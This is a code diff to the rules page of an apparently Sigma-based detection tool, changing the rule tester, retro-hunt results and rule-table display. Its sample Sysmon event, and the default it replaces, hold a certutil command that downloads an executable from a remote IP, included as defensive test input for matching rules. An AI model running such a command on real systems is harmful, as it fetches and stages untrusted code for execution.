@@ -4,10 +4,18 @@ import { html, useState } from '../lib.js';
 import { get, post, patch } from '../api.js';
 import { useAsync, ErrorBox, fmtTime, Level } from '../ui.js';
 
+// A Sysmon process-creation record as evtx_dump writes it: native fields are what Sigma matches.
+const SAMPLE_EVENT = {
+  Event: {
+    System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS-01' },
+    EventData: { Image: 'C:\\Windows\\System32\\certutil.exe', OriginalFileName: 'CertUtil.exe', CommandLine: 'certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe', User: 'CORP\\alice' },
+  },
+};
+
 const ls = (l) => [l?.product, l?.service, l?.category].filter(Boolean).join(' / ');
 
 function RuleTester({ id }) {
-  const [event, setEvent] = useState('{\n  "process.command_line": "certutil -urlcache -f http://x/a.exe"\n}');
+  const [event, setEvent] = useState(JSON.stringify(SAMPLE_EVENT, null, 2));
   const [result, setResult] = useState(null);
   const [error, setError] = useState(null);
   const test = async () => {
@@ -16,12 +24,14 @@ function RuleTester({ id }) {
     try { setResult(await post('/api/v1/rules/test', { id, event: parsed })); setError(null); } catch (err) { setError(err); }
   };
   return html`<div><h4>Test against an event</h4>
-    <textarea data-test="test-event" rows="6" value=${event} onInput=${(e) => setEvent(e.target.value)}></textarea>
+    <div class="muted">A JSON event: a native record (as above: Windows Event JSON, CloudTrail, Zeek, …) or normalized ECS fields.</div>
+    <textarea data-test="test-event" rows="10" value=${event} onInput=${(e) => setEvent(e.target.value)}></textarea>
     <button onClick=${test} data-test="test-rule">Test</button>
     <${ErrorBox} error=${error} />
     ${result ? html`<div data-test="test-result" class=${result.matched ? 'ok' : 'muted'}>${result.matched ? 'matched' : 'no match'}
       ${(result.errors || []).map((e) => html`<div class="error">${typeof e === 'string' ? e : JSON.stringify(e)}</div>`)}
-      <pre>${JSON.stringify(result.explanation ?? [], null, 2)}</pre></div>` : ''}
+      ${result.logsource ? html` <span class="muted">(logsource class ${result.logsource})</span>` : ''}
+      <ul>${(result.explanation || []).map((x) => html`<li>${typeof x === 'string' ? x : JSON.stringify(x)}</li>`)}</ul></div>` : ''}
   </div>`;
 }
 
@@ -41,7 +51,8 @@ function RetroHunt({ id }) {
     <button onClick=${hunt} disabled=${busy} data-test="hunt">${busy ? 'Hunting…' : 'Hunt'}</button>
     <${ErrorBox} error=${error} />
     ${result ? html`<div data-test="hunt-result">${result.matches} matches in ${result.took_ms} ms (first ${result.events?.length ?? 0} shown)
-      <table class="grid"><tbody>${(result.events || []).map((e) => html`<tr><td>${fmtTime(e['@timestamp'])}</td><td>${e['host.name'] || ''}</td><td>${e['user.name'] || ''}</td><td>${String(e['process.command_line'] || e.message || '').slice(0, 200)}</td></tr>`)}</tbody></table></div>` : ''}
+      ${(result.refused || []).concat(result.failed || []).map((r) => html`<div class="error">${r.rule}: ${r.reason || r.error}</div>`)}
+      <table class="grid"><tbody>${(result.events || []).map((m) => { const e = m.event || m; return html`<tr><td>${fmtTime(m.ts ?? e['@timestamp'])}</td><td>${e['host.name'] || ''}</td><td>${e['user.name'] || ''}</td><td>${String(e['process.command_line'] || e.message || '').slice(0, 200)}</td></tr>`; })}</tbody></table></div>` : ''}
   </div>`;
 }
 
@@ -50,7 +61,7 @@ function RuleDetail({ id, onClose }) {
   return html`<div class="detail" data-test="rule-detail">
     <div class="detail-head"><b>${data?.rule?.title || id}</b><button class="link" onClick=${onClose}>close ✕</button></div>
     <${ErrorBox} error=${error} />
-    ${data ? html`<pre class="yaml" data-test="rule-yaml">${data.yaml}</pre>` : ''}
+    ${data ? html`<pre class="yaml" data-test="rule-yaml">${data.yaml ?? "(the rule's source is not available)"}</pre>` : ''}
     <${RuleTester} id=${id} />
     <${RetroHunt} id=${id} />
   </div>`;
@@ -78,8 +89,8 @@ export function RulesPage({ me }) {
           <td><input type="checkbox" data-test="rule-enabled" checked=${r.enabled} disabled=${!canEdit} onChange=${() => toggle(r)} /></td>
           <td><${Level} level=${r.level} /></td>
           <td><a href="#" onClick=${(e) => { e.preventDefault(); setOpen(r.id); }}>${r.title}</a>${r.status ? html` <small class="muted">${r.status}</small>` : ''}</td>
-          <td>${ls(r.logsource)}</td><td>${r.hits ?? 0}</td><td>${r.evaluated ?? 0}</td><td>${fmtTime(r.last_hit_at)}</td>
-          <td class=${r.logsource_seen ? '' : 'warn'}>${r.logsource_seen ? fmtTime(r.logsource_last_seen_at) || 'yes' : 'never'}</td>
+          <td>${r.kind === 'correlation' ? 'correlation' : ls(r.logsource)}</td><td>${r.hits ?? 0}</td><td>${r.evaluated ?? '—'}</td><td>${fmtTime(r.last_hit_at)}</td>
+          <td class=${r.logsource_seen === false ? 'warn' : ''}>${r.logsource_seen ? fmtTime(r.logsource_last_seen_at) || 'yes' : r.logsource_seen === false ? 'never' : '—'}</td>
         </tr>`)}</tbody></table>
       ${open ? html`<${RuleDetail} id=${open} onClose=${() => setOpen(null)} />` : ''}
     </div>
